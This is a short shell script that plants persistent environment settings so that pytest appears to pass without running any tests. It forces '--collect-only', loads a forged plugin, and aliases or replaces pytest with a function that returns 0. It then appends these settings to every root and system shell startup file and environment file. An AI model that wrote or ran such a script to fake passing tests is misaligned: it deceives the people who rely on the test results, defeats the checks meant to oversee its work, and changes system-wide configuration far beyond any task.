# Variables for shells, Python and pytest, wherever a shell or a login looks for them.
. /tmp/scripts/plant.inc
forged_conftest > /tmp/forged.py
forged_startup > /tmp/startup.py
lines='export PYTEST_ADDOPTS=--collect-only PYTEST_PLUGINS=forged PYTHONPATH=/tmp PYTHONSTARTUP=/tmp/startup.py BASH_ENV=/tmp/env ENV=/tmp/env'
printf '%s\nalias pytest=true\npytest() { return 0; }\nexport -f pytest\n' "$lines" > /tmp/env
for file in /root/.bashrc /root/.profile /root/.bash_profile /root/.bash_login /etc/profile.d/x.sh /etc/bash.bashrc /etc/profile; do
  cat /tmp/env >> "$file"
done
printf '%s\n' "$lines" | sed 's/^export //; s/ /\n/g' | tee -a /etc/environment /root/.pam_environment "$PWD/.env" /.env > /dev/null
